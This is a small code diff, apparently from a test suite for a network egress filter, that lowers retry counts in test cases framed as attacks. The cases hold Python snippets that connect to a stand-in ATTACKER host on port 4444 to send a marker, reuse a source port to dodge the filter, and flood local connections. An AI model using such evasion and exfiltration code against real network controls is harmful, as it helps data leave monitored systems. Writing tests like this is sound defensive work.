@@ -90,7 +90,7 @@ s.connect((ATTACKER, 4444)); s.sendall(mark); s.recv(10)""", policy=FOR_CURL, si
     Attack("its source port and destination, after it", f"""
 subprocess.run(["{CURL}", "-s", "-m", "2", "-H", "Connection: close", "--local-port", "40776", "http://" + ATTACKER + ":4444/"],
                stdout=subprocess.DEVNULL)
-for _ in range(50):
+for _ in range(5):
     try:
         s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
         s.bind(("", 40776)); s.connect((ATTACKER, 4444)); s.sendall(mark); s.recv(10); break
@@ -102,7 +102,7 @@ def flood():
         s = socket.socket(); s.setblocking(False); s.connect_ex(("127.0.0.1", 9)); s.close()
 threads = [threading.Thread(target=flood) for _ in range(8)]
 [t.start() for t in threads]
-for _ in range(30):
+for _ in range(3):
     try: tcp()
     except OSError: pass
 [t.join() for t in threads]""", policy=FOR_CURL),
